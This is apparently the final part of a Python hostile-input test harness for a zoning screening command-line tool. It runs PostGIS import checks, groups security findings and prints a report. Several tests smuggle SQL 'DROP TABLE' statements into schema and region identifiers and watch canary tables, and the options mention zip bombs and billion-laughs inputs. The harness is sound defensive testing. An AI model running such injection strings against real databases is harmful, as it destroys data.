             ("region-injection", "layers import of a catalog whose region id carries a DROP"),
             ("fid-geom-columns", "layers import of a layer with attribute columns fid, geom, "
                                  "FID and ogc_fid"),
             ("markup-catalog-path", "layers import --write-catalog into a path with '[/]'"),
             ("dsn-env-unset-import", "layers import --dsn env:UNSET"),
             ("canaries", "every canary table survives the injections")]
    for iid, desc in extra:
        ids.append(f"postgis/{iid}")
        descs[f"postgis/{iid}"] = desc
    infos = [CaseInfo(i, cat, descs[i], "ok") for i in ids]
    if not dsn:
        def skipped():
            return {i: ("skipped", "ZONING_TEST_PG_DSN is not set", "") for i in ids}
        TASKS.append(Task(infos, skipped, 0.0))
        return

    def sql(statements, fetch=False):
        import psycopg

        with psycopg.connect(dsn, autocommit=True, connect_timeout=10) as con:
            out = None
            for s in statements:
                cur = con.execute(s)
                if fetch:
                    out = cur.fetchall()
            return out

    def suite():
        res = {}
        try:
            sql([f'CREATE SCHEMA "{schema}"'] + [
                f'CREATE TABLE "{schema}".canary_{i} (x int)' for i in range(1, 11)])
        except Exception as e:  # noqa: BLE001
            return {i: ("skipped", f"PostGIS server not usable: {type(e).__name__}: {e}"[:200], "")
                    for i in ids}
        try:
            pg_cat = P / "pg.yaml"
            run = run_cli(["layers", "import", "--region", "guiyang", "--dsn", dsn, "--schema",
                           schema, "--write-catalog", pg_cat], timeout=max(OPTS.timeout, 180))
            b = base_outcome(run)
            if b or run.rc != 0 or not pg_cat.exists():
                r = b or refusal(run, "ok")[:2]
                res["postgis/import"] = (*r, "")
                for i in ids[1:]:
                    res[i] = ("skipped", "the import failed", "")
                return res
            res["postgis/import"] = ("correct", f"imported in {run.seconds:.0f} s", "")
            res["postgis/red"] = judge_cli(run_cli(["check", red, "--catalog", pg_cat, "--json"]),
                                           "hit")
            res["postgis/clean"] = judge_cli(run_cli(["check", clean, "--catalog", pg_cat,
                                                      "--json"]), "clean")
            lst = write_list([red_row(rng), clean_row(rng)], WORK.lists / "pg.csv")
            out = out_dir("pg-screen")
            res["postgis/screen"] = (*judge_list_run(run_cli(["screen", lst, "--out", out,
                                                              "--catalog", pg_cat]), out,
                                                     ["hit", "clean"], "ok"), "")
            base = yaml.safe_load(pg_cat.read_text("utf-8"))
            key = next(k for k, v in base["layers"].items() if v.get("kind") == "eco_redline")
            for iid, _desc, change, canary in injections:
                c = json.loads(json.dumps(base))
                change(c["layers"][key])
                p = write_catalog(f"pg-{iid}", c)
                res[f"postgis/{iid}"] = judge_cli(run_cli(["check", red, "--catalog", p,
                                                           "--json"]), "not_clean|error")
                res[f"postgis/{iid}-validate"] = judge_cli(
                    run_cli(["layers", "validate", "--catalog", p]), "error", as_json=False)
                if canary is not None:
                    left = sql([f"SELECT to_regclass('{schema}.canary_{canary}')"], fetch=True)
                    if not left or left[0][0] is None:
                        res[f"postgis/{iid}"] = ("security", f"table {schema}.canary_{canary} "
                                                 "was dropped by the catalog's identifiers", "")
            run = run_cli(["layers", "import", "--region", "guiyang", "--dsn", dsn, "--schema",
                           f'x"; DROP TABLE "{schema}".canary_5; --', "--write-catalog",
                           P / "inj.yaml"])
            res["postgis/schema-injection"] = judge_cli(run, "error", as_json=False)
            small = {"catalog_version": 1, "region": {"id": "gy\"; DROP TABLE "
                                                      f"{schema}.canary_6; --", "name": "x"},
                     "layers": {"districts": base_catalog()["layers"]["districts"]}}
            p = write_catalog("pg-region-injection", small)
            res["postgis/region-injection"] = judge_cli(run_cli(
                ["layers", "import", "--catalog", p, "--dsn", dsn, "--schema", schema,
                 "--write-catalog", P / "inj2.yaml"]), "error", as_json=False)
            fg = write_geojson(P / "fidgeom.geojson", [K.red_ll],
                               props=[{"fid": 7, "geom": "POINT (1 2)", "FID": "x",
                                       "ogc_fid": 3, "HXBM": "A"}])
            small = {"catalog_version": 1, "region": {"id": "fidgeom", "name": "x"},
                     "layers": {"redline": {"kind": "eco_redline", "path": str(fg),
                                            "crs": "EPSG:4326", "id_field": "HXBM"}}}
            p = write_catalog("pg-fid-geom", small)
            res["postgis/fid-geom-columns"] = judge_cli(run_cli(
                ["layers", "import", "--catalog", p, "--dsn", dsn, "--schema", schema,
                 "--write-catalog", P / "fidgeom.yaml"]), "any", as_json=False)
            plain = write_geojson(P / "plain.geojson", [K.red_ll], props=[{"HXBM": "A"}])
            small["region"]["id"] = "markup"
            small["layers"]["redline"]["path"] = str(plain)
            p = write_catalog("pg-markup", small)
            res["postgis/markup-catalog-path"] = judge_cli(run_cli(
                ["layers", "import", "--catalog", p, "--dsn", dsn, "--schema", schema,
                 "--write-catalog", P / "[bold]x[" / "[/]pg.yaml"]), "any", as_json=False)
            res["postgis/dsn-env-unset-import"] = judge_cli(run_cli(
                ["layers", "import", "--region", "guiyang", "--dsn", "env:HOSTILE_UNSET_DSN",
                 "--write-catalog", P / "unset.yaml"]), "error", as_json=False)
            left = sql([f"SELECT count(*) FROM pg_tables WHERE schemaname = '{schema}' AND "
                        "tablename LIKE 'canary_%'"], fetch=True)[0][0]
            res["postgis/canaries"] = ("correct", "all 10 canaries there", "") if left == 10 else \
                ("security", f"{10 - left} canary tables were dropped", "")
            return res
        finally:
            try:
                sql([f'DROP SCHEMA IF EXISTS "{schema}" CASCADE'])
            except Exception:  # noqa: BLE001
                pass

    TASKS.append(Task(infos, suite, 150.0))


# --------------------------------------------------------------------------- main


GENERATORS = {"txt": gen_txt, "geometry": gen_geometry, "archives": gen_archives,
              "lists": gen_lists, "catalogs": gen_catalogs, "outputs": gen_outputs,
              "postgis": gen_postgis}


_GROUPS = {
    "security": [
        (r"template .* rendered|executed, rendered", "template code runs in map pages"),
        (r"is a live formula", "live formula in screening.xlsx"),
        (r"failed_rows\.csv: field .* starts with", "formula-leading field in failed_rows.csv"),
        (r"secret .* disclosed", "contents of a file outside the list folder disclosed"),
        (r"outside the list folder", "a file outside the list folder is read"),
        (r"unescaped|raw <script>|JavaScript|JS ", "raw HTML/JS from user text"),
        (r"dropped", "a table was dropped"),
        (r"created outside", "a file was created outside the output folder"),
        (r"executed", "code executed")],
    "silent wrong": [
        (r"must be refused", "an invalid value is accepted (it must be refused)"),
        (r"only the first part was read", "fail-open: only the first part of a multi-part input "
                                          "is read"),
        (r"inside a red line read as", "a footprint inside the red line reads 不涉及 for the red "
                                       "line"),
        (r"far from .* read as", "a clean site gets a verdict"),
        (r"both runs succeeded", "two concurrent runs into one --out both succeed"),
        (r"mixed output folder|leftovers|holds the old run", "--out holds a mix of two runs"),
        (r"rows in|row lost|missing from screening", "rows are lost"),
        (r"deleted the user", "--overwrite deletes unrelated files"),
        (r"\[integrity\]|32,767|cannot be opened", "a workbook Excel cannot open"),
        (r"another row came out wrong", "one row changes another row's result")],
}


def _finding_key(c: CaseInfo) -> str:
    r = re.sub(r"^the whole list fails: ", "", c.reason)
    if c.outcome == "traceback":
        if r.startswith("crashed"):
            return f"traceback: {r.split(': ', 1)[-1] if ' in ' in r else r}"
        m = re.match(r"([\w.]+)", r)
        where = re.search(r"@ (\S+ \S+)", r)
        return f"traceback {m.group(1) if m else r[:40]} @ {where.group(1) if where else '?'}"
    if c.outcome == "hang":
        return "hang"
    keys = [label for pat, label in _GROUPS.get(c.outcome, []) if re.search(pat, r)]
    if keys:
        return f"{c.outcome}: " + " + ".join(dict.fromkeys(keys))
    return f"{c.outcome}: " + re.sub(r"[\d.]+", "N", r)[:70]


def report(cases: list[CaseInfo], seconds: float):
    cats = [c for c in CATEGORIES if any(x.category == c for x in cases)]
    cols = list(OUTCOMES) + ["skipped"]
    w = max(10, *(len(c) for c in cats))
    head = f"{'category':<{w}} " + " ".join(f"{o:>12}" for o in cols) + f" {'total':>6}"
    print("\n" + head)
    print("-" * len(head))
    tot = {o: 0 for o in cols}
    for cat in cats:
        row = [x for x in cases if x.category == cat]
        counts = {o: sum(x.outcome == o for x in row) for o in cols}
        for o in cols:
            tot[o] += counts[o]
        print(f"{cat:<{w}} " + " ".join(f"{counts[o]:>12}" for o in cols) + f" {len(row):>6}")
    print("-" * len(head))
    print(f"{'all':<{w}} " + " ".join(f"{tot[o]:>12}" for o in cols) + f" {len(cases):>6}")
    bad = [c for c in cases if c.outcome in BAD]
    if bad:
        print(f"\n{len(bad)} cases are not OK:")
        for o in BAD:
            for c in [c for c in bad if c.outcome == o]:
                print(f"  [{o}] {c.id}: {c.desc}\n      → {c.reason}")
        groups: dict = {}
        for c in bad:
            groups.setdefault(_finding_key(c), []).append(c)
        print(f"\nfindings ({len(groups)} groups):")
        for key, cs in sorted(groups.items(), key=lambda kv: (-len(kv[1]), kv[0])):
            print(f"  {len(cs):>4} × {key}")
            print("         " + ", ".join(c.id for c in cs[:8]) + (" …" if len(cs) > 8 else ""))
    noted = [c for c in cases if c.note and c.outcome not in BAD]
    if noted:
        print(f"\nnotes ({len(noted)} OK cases worth a look):")
        for c in noted:
            print(f"  [{c.outcome}] {c.id}: {c.note}\n      → {c.reason}")
    print(f"\n{len(cases)} cases in {seconds / 60:.1f} min; {len(bad)} not OK")


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                 formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--json", type=Path, help="write every case with its outcome to this file")
    ap.add_argument("--only", help=f"comma-separated categories ({','.join(CATEGORIES)})")
    ap.add_argument("--case", help="only cases whose id contains this text")
    ap.add_argument("--jobs", type=int, default=2, help="parallel processes (default 2)")
    ap.add_argument("--seed", type=int, default=10)
    ap.add_argument("--timeout", type=float, default=60.0, help="seconds per run (default 60)")
    ap.add_argument("--dos-timeout", type=float, default=30.0,
                    help="seconds for runs on inputs built to hang (FIFOs, endless CTEs, "
                         "billion laughs, 4e9-record DBF; default 30)")
    ap.add_argument("--mem-gb", type=float, default=3.0, help="RLIMIT_AS per run (default 3)")
    ap.add_argument("--bomb-mb", type=int, default=2048,
                    help="inflated size of the zip bombs (default 2048: ~2 MB zips)")
    ap.add_argument("--n-txt", type=int, default=90, help="random TXT files")
    ap.add_argument("--n-wkt", type=int, default=100, help="random WKT rows")
    ap.add_argument("--n-listrows", type=int, default=60, help="random attribute rows")
    ap.add_argument("--kill-rows", type=int, default=60, help="rows of the SIGKILL lists")
    ap.add_argument("--keep", action="store_true", help="keep the temporary folder")
    ap.add_argument("--workdir", type=Path, help="use this folder instead of a temporary one")
    ap.add_argument("--report", type=Path, metavar="JSON",
                    help="only print the report of an earlier --json file")
    args = ap.parse_args(argv)
    if args.report:
        d = json.loads(args.report.read_text("utf-8"))
        cases = [CaseInfo(c["id"], c["category"], c["description"], c["expect"], c["outcome"],
                          c["reason"], c["note"], c["seconds"]) for c in d["cases"]]
        report(cases, d.get("seconds", 0.0))
        return 1 if any(c.outcome in BAD for c in cases) else 0
    for k in ("timeout", "dos_timeout", "mem_gb", "bomb_mb", "n_txt", "n_wkt", "n_listrows", "kill_rows",
              "seed"):
        setattr(OPTS, k, getattr(args, k))
    only = [c.strip() for c in args.only.split(",")] if args.only else list(CATEGORIES)
    unknown = set(only) - set(CATEGORIES)
    if unknown:
        ap.error(f"unknown categories {sorted(unknown)}; known: {', '.join(CATEGORIES)}")
    CMD[:] = _resolve_cmd()
    _KEEP_RUNS[0] = args.keep
    root = args.workdir or Path(tempfile.mkdtemp(prefix="zoning-hostile-"))
    if args.workdir and root.exists():
        shutil.rmtree(root)
    WORK.root = root
    for name in ("logs", "files", "lists", "outs", "outside"):
        setattr(WORK, name, root / name)
        (root / name).mkdir(parents=True, exist_ok=True)
    t0 = time.monotonic()
    print(f"zoning hostile-input sweep: {' '.join(CMD)}  (PYTHONPATH={_env().get('PYTHONPATH')})")
    print(f"work folder {root}; seed {args.seed}; {args.jobs} jobs; timeout {args.timeout:.0f} s; "
          f"RLIMIT_AS {args.mem_gb:g} GB")
    try:
        setup_known(args.seed)
        ok, why = calibrate()
        print(f"red-line site: feature {K.red_id}, centre {K.red_ll.centroid.x:.5f}, "
              f"{K.red_ll.centroid.y:.5f}; clean site (城镇集中建设区): "
              f"{K.clean_ll.centroid.x:.5f}, {K.clean_ll.centroid.y:.5f}; outside the UDB: "
              f"{K.outside_ll.centroid.x:.5f}, {K.outside_ll.centroid.y:.5f}"
              + ("" if ok else f"  (calibration: {why})"))
        rng_root = random.Random(args.seed)
        seeds = {c: rng_root.randrange(2 ** 32) for c in CATEGORIES}
        tg = time.monotonic()
        # geometry files are shared by other categories
        needed = set(only) | ({"geometry"} if set(only) & {"catalogs", "outputs", "postgis"}
                              else set())
        for cat in CATEGORIES:
            if cat in needed:
                n0, r0 = len(TASKS), len(ROWS)
                GENERATORS[cat](random.Random(seeds[cat]))
                if cat not in only:
                    del TASKS[n0:]
                    del ROWS[r0:]
        row_tasks()
        tasks = TASKS
        if args.case:
            tasks = [t for t in tasks if any(args.case in c.id for c in t.cases)]
        ncases = sum(len(t.cases) for t in tasks)
        print(f"{ncases} cases in {len(tasks)} runs generated in {time.monotonic() - tg:.0f} s")
        cases: list[CaseInfo] = []
        lock = threading.Lock()
        done = [0]
        post = [t for t in tasks if t.weight < 0]
        tasks = sorted([t for t in tasks if t.weight >= 0], key=lambda t: -t.weight)

        def run_task(t: Task):
            t1 = time.monotonic()
            try:
                res = t.fn()
            except Exception as e:  # noqa: BLE001 - a bug here must not hide the other cases
                import traceback

                tb = traceback.format_exc(limit=3)
                res = {c.id: ("skipped", f"harness error: {type(e).__name__}: {e} | {tb[-300:]}",
                              "") for c in t.cases}
            dt = time.monotonic() - t1
            with lock:
                for c in t.cases:
                    o, why, note = res.get(c.id, ("skipped", "no result", ""))
                    c.outcome, c.reason, c.note, c.seconds = o, why, note, dt / len(t.cases)
                    cases.append(c)
                    done[0] += 1
                    if o in BAD:
                        print(f"  [{o}] {c.id}: {why[:150]}", flush=True)
                if done[0] and (done[0] // 50) != ((done[0] - len(t.cases)) // 50):
                    print(f"  … {done[0]}/{ncases} cases, {(time.monotonic() - t0) / 60:.1f} min",
                          flush=True)

        with cf.ThreadPoolExecutor(max_workers=max(1, args.jobs)) as ex:
            list(ex.map(run_task, tasks))
        for t in post:
            run_task(t)
        order = {c.id: i for i, c in enumerate(c for t in TASKS for c in t.cases)}
        cases.sort(key=lambda c: order.get(c.id, 0))
        report(cases, time.monotonic() - t0)
        if args.json:
            args.json.parent.mkdir(parents=True, exist_ok=True)
            args.json.write_text(json.dumps({
                "command": CMD, "seed": args.seed, "seconds": round(time.monotonic() - t0, 1),
                "cases": [dict(id=c.id, category=c.category, description=c.desc,
                               expect=c.expect, outcome=c.outcome, reason=c.reason, note=c.note,
                               seconds=round(c.seconds, 2)) for c in cases]},
                ensure_ascii=False, indent=1), "utf-8")
            print(f"cases written to {args.json}")
        return 1 if any(c.outcome in BAD for c in cases) else 0
    finally:
        for p in root.rglob("*"):  # FIFOs must not outlive the run
            try:
                if p.is_fifo():
                    p.unlink()
            except OSError:
                pass
        if args.keep or args.workdir:
            print(f"kept {root}")
        else:
            shutil.rmtree(root, ignore_errors=True)


if __name__ == "__main__":
    sys.exit(main())
